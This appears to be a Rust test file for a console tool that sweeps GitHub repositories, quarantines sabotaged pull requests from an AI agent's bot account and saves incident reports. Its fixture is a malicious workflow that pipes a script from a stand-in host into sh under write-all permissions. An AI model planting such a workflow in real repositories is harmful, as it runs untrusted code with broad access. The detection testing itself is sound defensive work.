//! Sweeps from the console: begun, stopped, gone on with, contained in one plan, reported; by keys, at the loopback GitHub.

use crate::console_github::Acme;
use crate::github::account::Role;
use crate::github::fault::{Fault, When};

const DEVIN: (&str, u64) = ("devin-ai-integration[bot]", 158_243_242);
const EVIL: &str = "name: build\non: pull_request_target\npermissions: write-all\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://collect.example/x | sh\n";

/// Two repositories with the same sabotage of one agent.
fn sabotaged() -> Acme {
    let acme = Acme::new();
    for name in ["acme/api", "acme/web"] {
        let at = acme.github.repo(name).role("maker", Role::Write);
        let title = "Update build configuration";
        at.pull(title).by_bot(DEVIN.0, DEVIN.1).branch("devin/1-build").commit(title, &[(".github/workflows/b.yml", EVIL)]).open();
    }
    acme.pull("Tidy the login", "login", "src/login.py");
    acme
}

#[test]
fn a_sweep_is_begun_contained_and_reported_by_keys() {
    let acme = sabotaged();
    let mut console = acme.console(&["acme/api"], "poll = 0\n");
    console.shows("#1 ").press("w").shows("begin the sweep").shows("over    acme/api");
    console.press("j\r").shows("sweep over: acme/api").press("\u{15}acme/api acme/web\r").shows("over    acme/api acme/web");
    console.press("jj\r").shows("since, such as").press("\u{15}2026-01-01\r").shows("since   2026-01-01");
    console.press("\r").shows("3 changes, 1 campaigns").shows("acme/web#1");
    console.press("gg ").shows("2 chosen").press("Q").shows("Why quarantine?").press("forged\r").shows("Yes, quarantine").shows("acme/web");
    console.press("y").shows("receipt");
    for name in ["acme/api", "acme/web"] {
        let labels = acme.github.repo(name).look(|repo| repo.pulls[&1].labels.clone());
        assert!(labels.iter().any(|label| label == "agent:quarantine"), "{name}: {labels:?}");
    }
    let file = acme.home.path().join("report.md");
    console
        .press("\u{1b}")
        .until("the receipt goes", |pty| !pty.screen().contains("receipt"))
        .press("I")
        .shows("save the incident report as:");
    console.press(&format!("\u{15}{}\r", file.display())).shows("the incident report lies in");
    let report = std::fs::read_to_string(&file).unwrap();
    assert!(report.starts_with("# Incident report S-") && report.contains("forged"), "{report}");
    console.press("I").press(&format!("\u{15}{}\r", file.display())).shows("is there already");
    console.press("\u{3}").ends();
    acme.github.forget();
    let mut console = acme.console(&["acme/api"], "poll = 0\n[github]\nreserve = 100\n");
    console.shows("#1 ").press("W").shows(", done,").press("G\r").shows("3 changes, 1 campaigns");
    let files = acme.github.seen().iter().filter(|seen| seen.short().contains("/files")).count();
    assert_eq!(files, 0, "what was judged is not read again");
    let wrong = acme.github.take_wrong();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Esc stops it in its tracks, what was read stays, and opening it goes on.
#[test]
fn a_sweep_that_was_stopped_goes_on_where_it_was() {
    let acme = sabotaged();
    let mut console = acme.console(&["acme/api"], "poll = 0\n[github]\nreserve = 100\n");
    console.shows("#1 ").press("w").shows("begin the sweep").press("j\r\u{15}acme/api acme/web\r").shows("acme/web");
    console.press("jj\r\u{15}2026-01-01\r").shows("since   2026-01-01");
    acme.github.fail(When::Like("/files".to_owned(), 2), Fault::Hang);
    console.press("\r").shows("changes 2/3").press("\u{1b}").shows("stopped after");
    acme.github.let_go();
    console.press("W").shows(", cut short,").press("G\r").shows("3 changes, 1 campaigns");
}

/// A wrong word is told in a sentence, and what was typed is still there.
#[test]
fn a_sweep_of_nothing_is_told() {
    let acme = sabotaged();
    let mut console = acme.console(&["acme/api"], "poll = 0\n");
    console.shows("#1 ").press("W").shows("begin the sweep").press("jj\r\u{15}soon\r").shows("since   soon");
    console.press("\r").shows("'soon' is no moment").press("W").shows("since   soon");
}
